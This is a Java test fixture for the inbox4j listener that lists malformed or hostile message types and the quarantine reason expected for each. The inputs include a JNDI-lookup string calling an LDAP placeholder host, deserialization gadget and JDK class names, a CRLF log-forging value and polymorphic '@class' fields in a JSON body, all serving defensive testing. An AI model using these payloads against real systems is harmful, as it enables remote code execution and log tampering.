package io.inbox4j.endtoend;

import static io.inbox4j.endtoend.BadInput.good;
import static io.inbox4j.endtoend.BadInput.handled;
import static io.inbox4j.listener.QuarantineReason.MISSING_TYPE;
import static io.inbox4j.listener.QuarantineReason.UNKNOWN_TYPE;

import java.util.stream.Stream;

/** Types that nobody has registered, whatever they are the name of. */
final class BadTypes {

  private static final String SEVERAL =
      "the type property is not set, and this endpoint knows several: orders.order-cancelled";

  private BadTypes() {}

  static Stream<BadInput> all() {
    return Stream.of(
        BadInput.quarantined("no type", good().type(null), "{}", MISSING_TYPE, SEVERAL),
        BadInput.quarantined("a blank type", good().type(" \t"), "{}", MISSING_TYPE, SEVERAL),
        unknown("an unknown type", "orders.order-lost"),
        unknown("a known type in capitals", "ORDERS.ORDER-PLACED"),
        unknown("a known type and a space", "orders.order-placed "),
        unknown("a class of the JDK as type", "java.lang.Runtime"),
        unknown("an array of the JDK as type", "[Ljava.lang.Object;"),
        unknown("a gadget as type", "com.sun.rowset.JdbcRowSetImpl"),
        unknown("the event's own class as type", OrderPlaced.class.getName()),
        unknown("a lookup as type", "${jndi:ldap://example.org/a}"),
        BadInput.quarantined(
            "a forged line of a log as type",
            good().type("lost\r\n12:00 ERROR forged"),
            "{}",
            UNKNOWN_TYPE,
            "the type is 'lost\\u000d\\u000a12:00 ERROR forged'"),
        handled(
            "names of classes in the body",
            good(),
            """
            {"order":"names of classes in the body","amount":1,
             "@class":"java.net.URL","@type":"java.lang.Runtime","class":"java.lang.Class"}""",
            "fields that the event does not have mean nothing"));
  }

  private static BadInput unknown(String name, String type) {
    return BadInput.quarantined(
        name,
        good().type(type),
        "{}",
        UNKNOWN_TYPE,
        "the type is '%s'; this endpoint knows: orders.order-cancelled".formatted(type));
  }
}
